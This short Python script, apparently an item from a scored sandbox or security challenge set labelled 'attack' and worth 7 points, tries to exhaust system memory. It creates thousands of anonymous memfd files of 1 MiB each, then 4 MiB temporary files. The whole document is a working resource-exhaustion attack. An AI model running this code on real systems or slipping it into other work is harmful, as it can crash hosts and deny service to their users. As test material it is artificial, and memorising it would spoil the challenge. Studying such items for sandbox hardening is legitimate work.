# attack: fills memory through files that have no name
# family: resources
# base: solved
# points: 7
# %% last
import os, tempfile
held = []
try:
    for count in range(10_000):
        held.append(os.memfd_create(str(count)))
        os.write(held[-1], bytes(1 << 20))
except (OSError, AttributeError) as error:
    print(error)
held = [tempfile.TemporaryFile() for _ in range(30)]
for file in held:
    file.write(bytes(4 << 20))
